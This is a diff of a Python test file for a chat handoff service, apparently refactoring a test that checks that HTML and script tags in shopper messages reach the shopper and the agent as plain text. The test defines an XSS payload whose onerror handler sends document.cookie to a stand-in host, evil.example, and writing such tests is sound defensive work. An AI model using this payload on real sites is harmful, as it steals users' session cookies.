@@ -12,7 +12,7 @@ from pathlib import Path
 
 from aiohttp import WSMsgType
 
-from tests.handoff.conftest import BOT_SECRET, auth, is_message, login, new_conversation, receive_until
+from tests.handoff.conftest import BOT_SECRET, auth, is_message, login, new_conversation, open_shopper_socket, receive_until
 
 STATIC = Path(__file__).resolve().parents[2] / "handoff" / "static"
 XSS = '<script>alert("x")</script><img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'
@@ -122,8 +122,7 @@ async def test_control_characters_are_removed_before_storing_and_relaying(servic
 
 async def test_html_and_script_are_plain_text_for_shopper_and_agent(service):
     client = service.client
-    conv, token = await new_conversation(client)
-    shopper = await client.ws_connect(f"/ws/shopper?conversation_id={conv}&token={token}")
+    conv, token, shopper = await open_shopper_socket(client)
     await shopper.send_json({"type": "message", "text": "转人工 " + XSS})
     await receive_until(shopper, is_message("bot"))
     agent = await login(client, "logi1")
